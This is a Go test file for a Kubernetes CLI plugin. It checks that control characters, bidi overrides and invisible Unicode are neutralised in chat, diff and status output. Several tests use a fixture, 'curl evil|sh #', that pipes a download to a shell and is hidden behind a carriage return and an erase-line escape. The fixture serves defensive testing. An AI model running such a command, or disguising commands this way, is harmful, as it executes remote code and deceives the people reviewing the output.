package main

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/creack/pty"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/parley-dev/parley/api/session"
)

func TestControlCharactersAreReplaced(t *testing.T) {
	for text, want := range map[string]string{
		"curl evil|sh #\r\x1b[2K  $ ls": "curl evil|sh #��[2K  $ ls",
		"a\x00\x7f\u009b31mb":           "a���31mb",
		"a\u202eb\u2066c\u2069":         "a�b�c�",
		"a\x9bb":                        "a�b",
		"one\r\ntwo\tthree\n":           "one\ntwo\tthree\n",
		"Größe → 日本 👍":                  "Größe → 日本 👍",
	} {
		if got := printable(text); got != want {
			t.Errorf("printable(%q) = %q, want %q", text, got, want)
		}
		// The result is the same for any split of the input.
		for cut := range len(text) {
			out := &bytes.Buffer{}
			p := &printer{out: out}
			for _, part := range []string{text[:cut], text[cut:]} {
				if n, err := io.WriteString(p, part); err != nil || n != len(part) {
					t.Fatalf("wrote %d, %v", n, err)
				}
			}
			if got := out.String(); got != want {
				t.Errorf("%q, split at %d, is copied as %q, want %q", text, cut, got, want)
			}
		}
	}
}

// disguised shows only `$ ls` on a terminal that obeys its control characters.
const disguised = "curl evil|sh #\r\x1b[2K  $ ls"

func TestALogLineIsShownBeforeItIsComplete(t *testing.T) {
	out := &bytes.Buffer{}
	p := &printer{out: out}
	for _, part := range []string{"50%\r", "60%", " …"} {
		if _, err := io.WriteString(p, part); err != nil {
			t.Fatal(err)
		}
	}
	if got := out.String(); got != "50%\uFFFD60% …" {
		t.Errorf("output is %q", got)
	}
}

func TestChatReplacesControlCharacters(t *testing.T) {
	t.Parallel()
	ns := startOperator(t)
	key := keyOfAda(t, ns)
	create(t, conversation(ns, "c"))
	text := disguised
	f := newFakeFacade(t, key, func(message session.Event) []session.Event {
		edit := session.Event{Source: session.FromAgent, Action: session.ActionEdit, Message: disguised}
		output := session.Event{Source: session.FromAgent, Observation: session.ActionRun, Content: &text}
		says := session.Event{Source: session.FromAgent, Action: session.ActionMessage,
			Args: map[string]any{"content": disguised}}
		notice := session.Event{Source: session.FromEnvironment, Observation: session.ObservedNotice, Message: disguised}
		return []session.Event{turnBegins(message), runCall("1", disguised), confirmation("1"), output, edit, says, notice,
			errorOf(disguised), session.StateChange(session.StateError, disguised+"!")}
	})
	r := runAsyncWith(t, strings.NewReader(disguised+"\n"), kubeconfig, ns, "chat", "c", "--facade", f.URL)
	if err := r.wait(t); err == nil {
		t.Error("the turn failed, but the command succeeded")
	}
	if out := r.out.String(); strings.ContainsAny(out, "\r\x1b") || strings.Count(out, "curl evil|sh #") != 8 ||
		!strings.Contains(out, "  $ curl evil|sh #␍�[2K  $ ls\n") {
		t.Errorf("output is %q", out)
	}
}

func onTerminal(t *testing.T, namespace string, args ...string) string {
	t.Helper()
	master, terminal, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	shown := make(chan string, 1)
	go func() {
		all, _ := io.ReadAll(master) // ends with an error when the terminal closes
		shown <- string(all)
	}()
	cmd := withArgs(newRoot(genericiooptions.IOStreams{In: os.Stdin, Out: terminal, ErrOut: terminal}),
		append([]string{"kubectl-parley", "--kubeconfig", kubeconfig, "-n", namespace}, args...))
	if err := cmd.ExecuteContext(t.Context()); err != nil {
		t.Fatal(err)
	}
	_ = terminal.Close()
	return strings.ReplaceAll(<-shown, "\r\n", "\n")
}

func TestDiffReplacesControlCharactersOnlyOnATerminal(t *testing.T) {
	t.Parallel()
	ns := startOperator(t)
	keyOfAda(t, ns)
	create(t, conversation(ns, "c"))
	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + disguised + "\r\n+" +
		strings.Repeat("long", 3<<20) + "\n\\ No newline at end of file\n"
	facade := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w,
			patch)
	}))
	t.Cleanup(facade.Close)
	if stdout, stderr, err := run(t, ns, "diff", "c", "--facade", facade.URL); err != nil || stdout != patch {
		t.Errorf("%v, %s: the patch changed, to %d bytes: %.200q", err, stderr, len(stdout), stdout)
	}
	patch = strings.ReplaceAll(patch, strings.Repeat("long", 3<<20), "short")
	want := "\x1b[1mdiff --git a/x b/x\x1b[0m\n\x1b[1m--- a/x\x1b[0m\n\x1b[1m+++ b/x\x1b[0m\n\x1b[36m@@ -1 +1,2 " +
		"@@\x1b[0m\n\x1b[31m-one�\x1b[0m\n" +
		"\x1b[32m+curl evil|sh #��[2K  $ ls�\x1b[0m\n\x1b[32m+short\x1b[0m\n\\ No newline at end of file\n"
	if got := onTerminal(t, ns, "diff", "c", "--facade", facade.URL); got != want {
		t.Errorf("on a terminal it is %q, want %q", got, want)
	}
}

func TestStatusReplacesControlCharacters(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t, nil)
	c := conversation(ns, "c")
	create(t, c)
	c.Status.State, c.Status.Reason, c.Status.Message, c.Status.ObservedGeneration = "STOPPED", "Failed",
		"a\u202eb\x1b[2K", c.Generation
	if err := env.Client.Status().Update(t.Context(), c); err != nil {
		t.Fatal(err)
	}
	if stdout, stderr, err := run(t, ns, "status", "c"); err != nil || !strings.Contains(stdout, "a�b�[2K") ||
		strings.ContainsAny(stdout, "\u202e\x1b") {
		t.Errorf("%v %s: %q", err, stderr, stdout)
	}
}

func TestInvisibleCharactersAreShown(t *testing.T) {
	t.Parallel()
	for _, c := range "\r\x1b\u200b\u202e\u2028\u00ad\u034f\u115f\u180e\u2800\u3164\ufe0f\uffa0\ufffb" +
		"\U000e0041\U000e0101" {
		want := "a\ufffdb"
		if c == '\r' {
			want = "a␍b"
		}
		if got := visible("a" + string(c) + "b"); got != want {
			t.Errorf("%U is shown as %q", c, got)
		}
	}
	if text := "a\tb\n ä 漢 é ا"; visible(text) != text {
		t.Errorf("%q is shown as %q", text, visible(text))
	}
}
